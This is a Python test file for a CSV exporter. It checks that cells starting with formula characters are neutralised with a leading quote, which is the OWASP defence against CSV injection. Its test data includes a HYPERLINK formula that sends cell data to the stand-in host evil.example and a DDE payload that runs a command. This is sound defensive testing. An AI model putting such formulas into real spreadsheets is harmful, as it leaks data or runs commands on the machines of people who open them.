"""CSV cells that a spreadsheet would run as a formula are neutralised (the OWASP rule)."""

from __future__ import annotations

import csv
import io

import pytest

from pipeline.export import ExportArticle, build_record
from pipeline.export.writers import CsvWriter, neutralise_cell


def _article(**kw: object) -> ExportArticle:
    base: dict[str, object] = dict(id=1, source_name="a.txt", sha256="0" * 64, status="new", script="simplified",
                                   text="正文", tags=[], note="", fields={}, metadata={})
    base.update(kw)
    return ExportArticle(**base)  # type: ignore[arg-type]


def _rows(*articles: ExportArticle) -> list[dict[str, str]]:
    fh = io.StringIO()
    writer = CsvWriter(fh)
    for a in articles:
        writer.write(build_record(a))
    return list(csv.DictReader(io.StringIO(fh.getvalue().lstrip("\ufeff"))))


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
    "\t=1+1", "\r=1+1",
])
def test_formula_cells_get_a_leading_quote(cell: str) -> None:
    (row,) = _rows(_article(source_name=cell, note=cell, tags=[cell, "ok"]))
    assert row["source_name"] == "'" + cell
    assert row["note"] == "'" + cell
    assert row["tags"] == "'" + cell + "; ok"


def test_ordinary_cells_are_unchanged() -> None:
    (row,) = _rows(_article(source_name="深圳推介会.txt", note="a=b, 1+1, x@y", tags=["招商"], text="＝全角不算公式"))
    assert (row["source_name"], row["note"], row["tags"], row["text"]) == (
        "深圳推介会.txt", "a=b, 1+1, x@y", "招商", "＝全角不算公式")
    assert row["id"] == "1"


def test_neutralise_cell() -> None:
    assert neutralise_cell("") == ""
    assert neutralise_cell("=1") == "'=1"
    assert neutralise_cell("'=1") == "'=1"  # already starts with a quote: no formula, left alone
